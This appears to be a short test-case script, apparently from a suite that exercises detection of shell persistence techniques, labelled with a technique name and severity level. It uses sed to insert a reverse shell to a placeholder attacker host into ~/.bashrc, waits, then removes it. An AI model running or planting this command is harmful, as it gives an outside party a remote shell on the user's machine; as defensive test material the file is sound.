# SPDX-License-Identifier: MIT
# technique: a reverse shell put into ~/.bashrc with sed -i (a rename)
# level: high
# quick: no
t0
sed -i "1i nohup bash -c 'bash -i >& /dev/tcp/$ATK/443 0>&1' &" ~/.bashrc
sleep 22
sed -i 1d ~/.bashrc
